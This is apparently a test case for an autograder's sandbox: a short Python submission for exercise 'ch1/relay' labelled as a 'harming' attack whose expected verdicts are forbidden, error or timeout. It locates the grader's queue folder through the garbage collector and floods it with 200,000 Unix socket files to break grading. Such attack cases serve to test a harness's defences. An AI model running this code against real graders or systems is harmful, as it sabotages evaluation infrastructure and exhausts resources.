# /// attack
# kind = "harming"
# exercise = "ch1/relay"
# verdicts = ["forbidden", "error", "timeout"]
# reason = "Binds sockets without end in its queue folder; more than 64 files stop the grading."
# ///
import gc
import os
import socket


def relay(source, target, count):
    folder = next(
        f["queues"][-1] for f in gc.get_objects() if isinstance(f, dict) and isinstance(f.get("queues"), list)
    )
    os.chdir(folder)
    for number in range(200_000):
        one = socket.socket(socket.AF_UNIX)
        one.bind(f"{number}")
        one.close()
    print("BREACH: made 200,000 files")
